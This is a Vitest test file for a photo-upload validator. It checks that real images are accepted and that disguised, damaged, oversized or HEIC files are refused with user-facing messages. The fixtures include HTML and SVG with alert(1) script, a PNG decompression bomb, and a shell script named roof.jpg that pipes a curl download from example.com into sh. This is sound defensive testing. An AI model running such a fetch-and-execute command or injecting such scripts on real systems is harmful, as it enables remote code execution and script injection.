import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, describe, expect, it } from "vitest";
import { removeDir } from "../../tests/support/test-app";
import { heicLike, noisyJpeg, pngBomb, smallJpeg } from "../../tests/support/test-photos";
import { canDecodeHeic, checkPhoto, heicMessage, sniff } from "./photo-check.server";

const dir = mkdtempSync(path.join(tmpdir(), "photo-check-"));
afterAll(() => removeDir(dir));

let count = 0;
function saved(content: Buffer | string, originalName: string) {
  const tempPath = path.join(dir, `upload-${++count}.part`);
  writeFileSync(tempPath, content);
  return { tempPath, originalName };
}

const image = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#4a7" } });

describe("checkPhoto accepts real photos, whatever they are called", () => {
  it.each([
    ["JPEG", "jpeg", () => image(120, 80).jpeg().toBuffer()],
    ["PNG", "png", () => image(120, 80).png().toBuffer()],
    [
      "PNG with transparency",
      "png",
      () =>
        sharp({ create: { width: 120, height: 80, channels: 4, background: "#4a78" } })
          .png()
          .toBuffer(),
    ],
    ["WebP", "webp", () => image(120, 80).webp().toBuffer()],
    ["AVIF", "heif", () => image(120, 80).avif().toBuffer()],
  ] as const)("%s", async (_name, format, make) => {
    const result = await checkPhoto(saved(await make(), "IMG_0001.bin"));
    expect(result).toEqual({ ok: true, format, width: 120, height: 80 });
  });

  it("reports the upright size of a photo turned by its EXIF orientation", async () => {
    const rotated = await image(300, 200).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    expect(await checkPhoto(saved(rotated, "portrait.jpg"))).toMatchObject({
      ok: true,
      width: 200,
      height: 300,
    });
  });
});

describe("checkPhoto refuses, naming the file", () => {
  it("an HTML page named .jpg", async () => {
    const result = await checkPhoto(
      saved("<!DOCTYPE html><html><script>alert(1)</script></html>", "photo.jpg"),
    );
    expect(result).toEqual({
      ok: false,
      problem: "unsupported-format",
      fileName: "photo.jpg",
      message:
        '"photo.jpg" is a web page or script, not a photo. Please send photos in JPEG, PNG or WebP format.',
    });
  });

  it("a script named .jpg", async () => {
    const result = await checkPhoto(
      saved("#!/bin/sh\ncurl http://example.com/x | sh\n", "roof.jpg"),
    );
    expect(result).toMatchObject({ ok: false, problem: "not-a-photo", fileName: "roof.jpg" });
    expect(result.ok || result.message).toBe(
      '"roof.jpg" is not a photo we can open. Please send photos in JPEG, PNG or WebP format.',
    );
  });

  it("an SVG, also one named .png and one with an XML prolog", async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';
    for (const [content, name] of [
      [svg, "drawing.svg"],
      [svg, "drawing.png"],
      [`<?xml version="1.0"?>\n<!-- made by hand -->\n${svg}`, "x.jpg"],
    ]) {
      const result = await checkPhoto(saved(content as string, name as string));
      expect(result).toMatchObject({ ok: false, problem: "unsupported-format", fileName: name });
      expect(result.ok || result.message).toContain("an SVG drawing, not a photo");
    }
  });

  it("a GIF", async () => {
    const gif = await image(20, 20).gif().toBuffer();
    const result = await checkPhoto(saved(gif, "party.gif"));
    expect(result).toMatchObject({ ok: false, problem: "unsupported-format" });
    expect(result.ok || result.message).toBe(
      '"party.gif" is a GIF, not a photo. Please send photos in JPEG, PNG or WebP format.',
    );
  });

  it("a truncated JPEG", async () => {
    const photo = await noisyJpeg(800, 600);
    const result = await checkPhoto(
      saved(photo.subarray(0, Math.floor(photo.length * 0.6)), "cut.jpg"),
    );
    expect(result).toEqual({
      ok: false,
      problem: "damaged",
      fileName: "cut.jpg",
      message:
        '"cut.jpg" seems to be damaged or incomplete, so we cannot open it. Please choose it again, or send a copy saved as JPEG.',
    });
  });

  it("a JPEG signature followed by rubbish, and a PNG cut short", async () => {
    const rubbish = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      Buffer.alloc(4000, 0x41),
    ]);
    expect(await checkPhoto(saved(rubbish, "a.jpg"))).toMatchObject({ problem: "damaged" });
    const png = await sharp({
      create: {
        width: 400,
        height: 300,
        channels: 3,
        background: "#123",
        noise: { type: "gaussian", mean: 100, sigma: 40 },
      },
    })
      .png()
      .toBuffer();
    expect(await checkPhoto(saved(png.subarray(0, png.length / 2), "b.png"))).toMatchObject({
      problem: "damaged",
    });
  });

  it("a zero-byte file", async () => {
    expect(await checkPhoto(saved(Buffer.alloc(0), "empty.jpg"))).toEqual({
      ok: false,
      problem: "empty",
      fileName: "empty.jpg",
      message: '"empty.jpg" is empty (0 bytes). Please choose the photo again.',
    });
  });

  it("a 30,000 x 30,000 PNG, from its header: quickly and without allocating it", async () => {
    const bomb = await pngBomb(30_000, 30_000);
    const file = saved(bomb, "huge.png");
    global.gc?.();
    const rssBefore = process.memoryUsage().rss;
    const started = performance.now();
    const result = await checkPhoto(file);
    const elapsed = performance.now() - started;
    const rssGrowth = process.memoryUsage().rss - rssBefore;
    console.log(
      `30,000 x 30,000 PNG (${(bomb.length / 1e6).toFixed(2)} MB file, 900 MP): refused in ${elapsed.toFixed(1)} ms, RSS +${(rssGrowth / 1e6).toFixed(1)} MB`,
    );
    expect(result).toEqual({
      ok: false,
      problem: "too-many-pixels",
      fileName: "huge.png",
      message:
        '"huge.png" is too large in pixels (30,000 x 30,000). Please send a photo of at most 50 megapixels.',
    });
    expect(elapsed).toBeLessThan(500);
    // Decoded it would be 900 MP (112 MB even at one bit a pixel, 2.7 GB as RGB).
    expect(rssGrowth).toBeLessThan(30e6);
  });

  it("a photo just over 50 megapixels, even when its header is honest and small", async () => {
    const wide = await pngBomb(10_000, 5_001);
    expect(await checkPhoto(saved(wide, "pano.png"))).toMatchObject({ problem: "too-many-pixels" });
  });

  it("an HEIC photo this server cannot decode, with the plain advice", async () => {
    expect(canDecodeHeic).toBe(false);
    const result = await checkPhoto(saved(heicLike(), "IMG_4031.HEIC"));
    expect(result).toEqual({
      ok: false,
      problem: "heic-unsupported",
      fileName: "IMG_4031.HEIC",
      message: `"IMG_4031.HEIC": ${heicMessage}`,
    });
    expect(heicMessage).toBe(
      "This phone photo is in HEIC format, which we cannot open. Choose 'Most compatible' in the camera settings, or send it as JPEG.",
    );
    // Named .jpg, as some transfers do: still HEIC by its bytes.
    expect(await checkPhoto(saved(heicLike(), "IMG_4031.jpg"))).toMatchObject({
      problem: "heic-unsupported",
    });
  });

  it("an HEIC file whose header cannot even be read gets the HEIC advice too", async () => {
    const broken = heicLike().subarray(0, 60);
    expect(await checkPhoto(saved(broken, "IMG_4032.HEIC"))).toMatchObject({
      problem: "heic-unsupported",
    });
  });

  it("a file whose bytes say one format and whose header says another", async () => {
    const jpeg = await smallJpeg();
    // RIFF....WEBP in front of a JPEG: sniffed as WebP, not decodable as one.
    const disguised = Buffer.concat([Buffer.from("RIFF\0\0\0\0WEBPVP8 "), jpeg]);
    expect(await checkPhoto(saved(disguised, "x.webp"))).toMatchObject({ problem: "damaged" });
  });
});

describe("sniff", () => {
  it("knows photos, HEIC and AVIF by their first bytes, and calls other things by name", () => {
    expect(sniff(Buffer.from([0xff, 0xd8, 0xff, 0xe1]))).toEqual({ kind: "photo", format: "jpeg" });
    expect(sniff(heicLike())).toEqual({ kind: "photo", format: "heif", heic: true });
    expect(sniff(Buffer.from("%PDF-1.7"))).toEqual({ kind: "other", what: "a PDF" });
    expect(
      sniff(Buffer.from("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom", "latin1")),
    ).toMatchObject({
      kind: "other",
    });
    expect(sniff(Buffer.from("MZ\x90\x00", "latin1"))).toEqual({ kind: "other" });
  });
});
